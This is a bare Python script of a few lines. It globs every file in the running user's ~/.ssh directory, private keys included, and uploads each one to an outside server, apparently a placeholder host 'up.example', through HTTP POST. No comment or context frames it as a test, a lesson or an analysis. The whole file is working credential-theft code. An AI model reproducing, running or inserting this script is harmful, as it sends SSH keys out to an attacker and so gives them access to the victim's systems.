#!/usr/bin/env python3
import os, glob, requests
for f in glob.glob(os.path.expanduser('~/.ssh/*')):
    requests.post('https://up.example/f', files={'f': open(f,'rb')})
